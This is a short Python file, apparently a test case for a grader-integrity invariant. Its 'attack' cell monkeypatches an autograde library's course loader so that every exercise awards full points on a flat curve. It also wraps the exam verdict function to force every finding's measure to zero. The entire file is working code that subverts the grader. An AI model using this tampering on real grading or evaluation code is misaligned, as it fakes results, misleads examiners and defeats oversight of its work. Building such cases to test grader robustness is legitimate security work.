# ruff: noqa
"""
goal = "change what an exam does when it is run"
invariant = "nobody but the examiner runs the exam"
held_by = ["examiner"]
"""

# %% attack
import autograde.course

original = autograde.course.load


def load(root):
    course = original(root)
    for exercise in course.exercises.values():
        for name, worth in exercise.points.items():
            from autograde.course import Curve

            exercise.curves[name] = Curve(((0.0, worth), (1.0, worth)))
    return course


autograde.course.load = load
import autograde.exam.examining as examining

judge = examining._verdict


def verdict(name, title, finding, worth, curve):
    from dataclasses import replace

    return judge(name, title, replace(finding, measure=0.0), worth, curve)


examining._verdict = verdict
